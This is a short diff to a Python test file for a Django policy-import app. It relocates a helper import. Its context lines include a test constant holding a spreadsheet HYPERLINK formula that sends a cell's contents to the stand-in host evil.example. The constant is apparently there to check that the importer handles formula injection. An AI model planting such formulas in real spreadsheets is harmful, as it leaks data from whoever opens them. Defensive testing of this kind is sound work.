@@ -8,12 +8,12 @@ import zipfile
 import openpyxl
 import pytest
 from django.test import Client
-from policy_web_helpers import YEAR, workbook
 
 from hardtech.accounts.models import Role
 from hardtech.catalogue.models import Organisation
 from hardtech.policies.importer import import_profiles
 from hardtech.policies.models import TechContract
+from support.policy_web_helpers import YEAR, workbook
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
 MESSAGE = "不能包含控制字符"
